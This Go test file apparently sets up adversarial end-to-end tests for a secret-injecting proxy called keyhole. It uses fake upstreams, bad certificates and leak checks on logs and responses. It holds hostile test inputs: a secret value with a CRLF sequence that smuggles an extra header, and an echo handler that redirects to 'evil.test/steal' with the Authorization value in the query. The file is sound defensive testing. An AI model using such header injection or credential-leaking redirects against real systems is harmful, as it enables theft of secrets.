package e2e

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// Values of the secrets only the adversarial tests configure. They must
// never appear anywhere either.
const (
	// crlfValue would split a header if keyhole ever sent it.
	crlfValue = "crlf-TEST-SECRET-9f8e\r\nX-Injected: 1"
	crlfMark  = "crlf-TEST-SECRET-9f8e"
	// chainValue holds another secret's placeholder, which must reach the
	// upstream literally.
	chainValue = "chain-TEST-SECRET-<<STRIPE>>-77dd"
)

// advWorld is a keyhole with upstreams for every adversarial case.
type advWorld struct {
	k       *keyhole
	stripe  *upstream // api.stripe.test and api.github.test
	alt     *upstream // api.stripe.test:8443, a different server
	evil    *upstream // evil.test and the xn-- look-alike
	plain   *upstream // plain.test, plain HTTP; also cleartext.test on 443
	expired *upstream // expired.test: its certificate has expired
	wrong   *upstream // wronghost.test: a certificate for another name
	self    *upstream // selfsigned.test: signed by nobody keyhole trusts

	mu     sync.Mutex
	bodies []string // every request body (and trailer) the echo upstreams read
}

const advRules = `
secrets:
  STRIPE:
    source: env:STRIPE_KEY
    hosts: [api.stripe.test]
    headers: [Authorization]
    methods: [GET, POST]
    paths: ["/v1/*"]
  GITHUB:
    source: env:GITHUB_KEY
    hosts: [api.github.test, expired.test, wronghost.test, selfsigned.test, cleartext.test]
  BASIC:
    source: env:BASIC_PASSWORD
    hosts: [api.stripe.test]
  PLAIN:
    source: env:PLAIN_KEY
    hosts: [plain.test]
    headers: [X-Token, Cookie]
    allow_plaintext: true
  CRLF_FILE:
    source: file:%[1]s
    hosts: [api.stripe.test, plain.test]
    allow_plaintext: true
  CRLF_ENV:
    source: env:CRLF_KEY
    hosts: [api.stripe.test]
  CHAIN:
    source: file:%[2]s
    hosts: [api.stripe.test]
egress:
  default: allow
  allow: ["api.stripe.test:8443", "plain.test:8080"]
  deny: [blocked.test]
resolve:
  api.stripe.test: %[3]s
  api.github.test: %[3]s
  api.stripe.test:8443: %[4]s
  evil.test: %[5]s
  xn--pi-7kc.stripe.test: %[5]s
  plain.test: %[6]s
  cleartext.test: %[6]s
  expired.test: %[7]s
  wronghost.test: %[8]s
  selfsigned.test: %[9]s
`

// newAdvWorld starts the upstreams and keyhole on advRules. When the test
// ends it also checks that the secrets only these tests use appear nowhere
// in keyhole's output.
func newAdvWorld(t *testing.T) *advWorld {
	t.Helper()
	ca := upstreamCA(t)
	w := &advWorld{}
	h := http.HandlerFunc(w.echo)
	w.stripe = newUpstream(t, []string{"api.stripe.test", "api.github.test"}, h)
	w.alt = newUpstream(t, []string{"api.stripe.test"}, h)
	w.evil = newUpstream(t, []string{"evil.test", "xn--pi-7kc.stripe.test"}, h)
	w.plain = newPlainUpstream(t, h)
	w.expired = newUpstreamWithCert(t, ca.leaf(t, []string{"expired.test"}, time.Now().Add(-time.Hour)), h)
	w.wrong = newUpstream(t, []string{"someone-else.test"}, h)
	other, err := newTestCA()
	if err != nil {
		t.Fatal(err)
	}
	w.self = newUpstreamWithCert(t, other.leaf(t, []string{"selfsigned.test"}, time.Now().Add(time.Hour)), h)
	dir := t.TempDir()
	crlfFile, chainFile := filepath.Join(dir, "crlf-secret"), filepath.Join(dir, "chain-secret")
	for path, v := range map[string]string{crlfFile: crlfValue + "\n", chainFile: chainValue + "\n"} {
		if err := os.WriteFile(path, []byte(v), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { // runs after keyhole stopped (cleanups run last first)
		if w.k == nil {
			return
		}
		for name, out := range map[string]string{"stdout (audit log)": w.k.stdout.String(), "stderr": w.k.stderr.String()} {
			if strings.Contains(out, crlfMark) || strings.Contains(out, chainValue) {
				t.Errorf("keyhole's %s holds the value of CRLF_FILE, CRLF_ENV or CHAIN", name)
			}
		}
	})
	rules := fmt.Sprintf(advRules, crlfFile, chainFile, w.stripe.Addr(), w.alt.Addr(), w.evil.Addr(),
		w.plain.Addr(), w.expired.Addr(), w.wrong.Addr(), w.self.Addr())
	w.k = startKeyhole(t, rules, "CRLF_KEY="+crlfValue)
	return w
}

// echo is the upstreams' handler: the package's echo, plus what
// exfiltration tricks need (/v1/redirect answers 302 to evil.test with the
// Authorization value in the query; a Cookie comes back in Set-Cookie).
// It records the request body and trailer, where a smuggled request would
// hide.
func (w *advWorld) echo(rw http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body) // all of it: a server that stops reading resets the connection
	w.mu.Lock()
	w.bodies = append(w.bodies, string(body)+fmt.Sprint(r.Trailer))
	w.mu.Unlock()
	if c := r.Header.Get("Cookie"); c != "" {
		rw.Header().Set("Set-Cookie", "echo="+c)
	}
	if r.URL.Path == "/v1/redirect" {
		rw.Header().Set("Location", "https://evil.test/steal?auth="+r.Header.Get("Authorization"))
		rw.WriteHeader(http.StatusFound)
		return
	}
	echo(rw, r)
}

// bodiesSince returns the bodies and trailers the upstreams read after the
// first n.
func (w *advWorld) bodiesSince(n int) []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]string(nil), w.bodies[n:]...)
}

func (w *advWorld) bodyCount() int {
	w.mu.Lock()
	defer w.mu.Unlock()
	return len(w.bodies)
}

// upstreams names every upstream of the world, for counting what reached
// each.
func (w *advWorld) upstreams() map[string]*upstream {
	return map[string]*upstream{"stripe": w.stripe, "alt": w.alt, "evil": w.evil, "plain": w.plain,
		"expired": w.expired, "wrong": w.wrong, "self": w.self}
}

// hits returns how many requests each upstream has received.
func (w *advWorld) hits() map[string]int64 {
	out := map[string]int64{}
	for name, u := range w.upstreams() {
		out[name] = u.Hits()
	}
	return out
}

// assertHits fails unless, since before, each upstream received exactly
// the requests want names (none when absent).
func (w *advWorld) assertHits(t *testing.T, before map[string]int64, want map[string]int64) {
	t.Helper()
	for name, u := range w.upstreams() {
		if got := u.Hits() - before[name]; got != want[name] {
			t.Errorf("upstream %s received %d requests, want %d", name, got, want[name])
		}
	}
}

// received returns the requests u received after the first n.
func (u *upstream) received(n int64) []*http.Request {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]*http.Request(nil), u.reqs[n:]...)
}

// assertNoValueIn fails if s holds any secret value, naming the secret
// and the offset, never the bytes.
func assertNoValueIn(t *testing.T, what, s string) {
	t.Helper()
	assertNoSecretIn(t, what, s)
	for name, v := range map[string]string{"CRLF": crlfMark, "CHAIN": chainValue} {
		if i := strings.Index(s, v); i >= 0 {
			t.Errorf("%s contains secret %s at offset %d", what, name, i)
		}
	}
}

// redact replaces every secret value in s by its name, for failure
// messages.
func redact(s string) string {
	for i, v := range slices.Concat(allSecretValues, []string{chainValue, crlfMark}) {
		s = strings.ReplaceAll(s, v, fmt.Sprintf("<secret #%d>", i))
	}
	return s
}

// wire is a raw client connection to keyhole: plain TCP, or TLS inside a
// CONNECT tunnel.
type wire struct {
	t    *testing.T
	k    *keyhole
	conn net.Conn
	br   *bufio.Reader
}

// dialPlain opens a TCP connection to keyhole's proxy port.
func dialPlain(t *testing.T, k *keyhole) *wire {
	t.Helper()
	c, err := net.DialTimeout("tcp", k.Addr, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	return &wire{t: t, k: k, conn: c, br: bufio.NewReader(c)}
}

// openTunnel sends CONNECT target, expects 200, and completes a TLS
// handshake inside the tunnel naming sni (no server name when empty). The
// leaf keyhole presents must verify, against keyhole's CA, for the
// CONNECT target's host. A failed handshake is returned as an error.
func openTunnel(t *testing.T, k *keyhole, target, sni string) (*wire, error) {
	t.Helper()
	w := dialPlain(t, k)
	w.send(fmt.Sprintf("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target))
	resp, body, err := w.read(http.MethodConnect)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("CONNECT %s: got %v %.200s, want 200", target, err, redact(body))
	}
	pemBytes, err := os.ReadFile(k.CAFile)
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(pemBytes)
	host, _, _ := net.SplitHostPort(target)
	host = strings.ToLower(strings.TrimSuffix(host, "."))
	tc := tls.Client(&bufferedConn{Conn: w.conn, r: w.br}, &tls.Config{
		ServerName: sni,
		NextProtos: []string{"http/1.1"},
		// Verified below, so that a ClientHello without a server name can
		// still check the leaf against the CONNECT host.
		InsecureSkipVerify: true,
		VerifyConnection: func(cs tls.ConnectionState) error {
			if len(cs.PeerCertificates) == 0 {
				return errors.New("no certificate")
			}
			_, err := cs.PeerCertificates[0].Verify(x509.VerifyOptions{Roots: roots, DNSName: host})
			return err
		},
	})
	if err := tc.Handshake(); err != nil {
		return nil, err
	}
	return &wire{t: t, k: k, conn: tc, br: bufio.NewReader(tc)}, nil
}

// mustTunnel is openTunnel with the CONNECT host as server name, failing
// the test if the handshake fails.
func mustTunnel(t *testing.T, k *keyhole, target string) *wire {
	t.Helper()
	host, _, _ := net.SplitHostPort(target)
	w, err := openTunnel(t, k, target, host)
	if err != nil {
		t.Fatalf("TLS handshake inside the tunnel to %s: %v", target, err)
	}
	return w
}

// bufferedConn reads through r, which may hold bytes already read from
// Conn.
type bufferedConn struct {
	net.Conn
	r *bufio.Reader
}

func (c *bufferedConn) Read(p []byte) (int, error) { return c.r.Read(p) }

func (w *wire) send(s string) {
	w.t.Helper()
	if _, err := io.WriteString(w.conn, s); err != nil {
		w.t.Fatalf("writing to keyhole: %v", err)
	}
}

// read reads one response to a request with method, and its whole body.
func (w *wire) read(method string) (*http.Response, string, error) {
	_ = w.conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	resp, err := http.ReadResponse(w.br, &http.Request{Method: method})
	if err != nil {
		return nil, "", err
	}
	defer resp.Body.Close()
	if method == http.MethodConnect && resp.StatusCode == http.StatusOK {
		return resp, "", nil // the tunnel follows, not a body
	}
	b, err := io.ReadAll(resp.Body)
	return resp, string(b), err
}

// expect reads one response and fails unless it has status (and, for a
// refusal, reason in its JSON body, its X-Keyhole-Reason header and its
// audit record).
func (w *wire) expect(method string, status int, reason string) (*http.Response, string) {
	w.t.Helper()
	resp, body, err := w.read(method)
	if err != nil {
		w.t.Fatalf("got %v, want a %d response", err, status)
	}
	assertNoValueIn(w.t, "response", fmt.Sprint(resp.Header)+body)
	if resp.StatusCode != status {
		w.t.Fatalf("got status %d, want %d; body: %.300s", resp.StatusCode, status, redact(body))
	}
	if reason != "" {
		assertRefusal(w.t, response{Status: resp.StatusCode, Header: resp.Header, Body: body}, status, reason, "")
		if got := resp.Header.Get("X-Keyhole-Reason"); got != reason {
			w.t.Errorf("got X-Keyhole-Reason %q, want %q", got, reason)
		}
		id := resp.Header.Get("X-Keyhole-Request-Id")
		rec := w.k.WaitAudit(w.t, func(r map[string]any) bool { return r["request_id"] == id })
		if rec["decision"] != "deny" || rec["reason"] != reason || rec["status"] != float64(status) {
			w.t.Errorf("audit record: got %v %v %v, want deny %s %d", rec["decision"], rec["reason"], rec["status"], reason, status)
		}
	}
	return resp, body
}

// expectClosed fails unless keyhole closes the connection without another
// response.
func (w *wire) expectClosed() {
	w.t.Helper()
	resp, body, err := w.read(http.MethodGet)
	if err == nil {
		w.t.Fatalf("got a %d response (%.200s), want the connection closed", resp.StatusCode, redact(body))
	}
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		w.t.Fatalf("keyhole neither answered nor closed the connection within 10s")
	}
}

// rawReq joins a request line and header lines with CRLF and ends the
// header.
func rawReq(lines ...string) string { return strings.Join(lines, "\r\n") + "\r\n\r\n" }

// stripeOK is a request keyhole must allow inside a tunnel to
// api.stripe.test: the real secret goes to the stripe upstream.
func stripeOK(path string) string {
	return rawReq("GET "+path+" HTTP/1.1", "Host: api.stripe.test", "Authorization: Bearer <<STRIPE>>")
}

// expectStripeOK reads the answer to stripeOK(path) and checks that the
// stripe upstream received that very request with the real secret.
func (w *advWorld) expectStripeOK(t *testing.T, c *wire, path string) {
	t.Helper()
	_, body := c.expect(http.MethodGet, http.StatusOK, "")
	last := w.stripe.Last(t)
	if last.URL.Path != path || last.Header.Get("Authorization") != "Bearer "+stripeValue {
		t.Errorf("the stripe upstream's last request is %s, not %s with the real secret", last.URL.Path, path)
	}
	if !strings.Contains(body, "Bearer <<STRIPE>>") {
		t.Errorf("the echoed body does not show the placeholder: %.300s", redact(body))
	}
}

// assertStillServes opens a new tunnel and checks that a normal request
// works: keyhole survived whatever came before.
func (w *advWorld) assertStillServes(t *testing.T) {
	t.Helper()
	c := mustTunnel(t, w.k, "api.stripe.test:443")
	c.send(stripeOK("/v1/after"))
	w.expectStripeOK(t, c, "/v1/after")
}

// isSNIMismatch matches the audit record of a TLS handshake refused for
// its server name.
func isSNIMismatch(r map[string]any) bool {
	return r["reason"] == "host_mismatch" && r["method"] == "CONNECT"
}

// countAudit counts the audit records that match.
func countAudit(t *testing.T, k *keyhole, match func(map[string]any) bool) int {
	t.Helper()
	n := 0
	for _, r := range k.AuditRecords(t) {
		if match(r) {
			n++
		}
	}
	return n
}

// waitAuditCount waits until n audit records match.
func waitAuditCount(t *testing.T, k *keyhole, n int, match func(map[string]any) bool) {
	t.Helper()
	for deadline := time.Now().Add(5 * time.Second); countAudit(t, k, match) < n; {
		if time.Now().After(deadline) {
			t.Fatalf("got %d matching audit records, want %d", countAudit(t, k, match), n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}
